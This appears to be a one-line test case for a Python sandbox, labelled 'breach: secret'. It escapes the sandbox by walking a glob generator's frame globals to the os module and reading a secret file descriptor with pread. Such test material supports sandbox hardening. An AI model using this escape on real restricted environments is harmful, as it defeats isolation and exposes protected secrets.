# The frame of a generator of the standard library holds its globals.
# breach: secret
import glob
glob.iglob("*").gi_frame.f_globals["os"].pread(SECRET_FD, 100, 0)
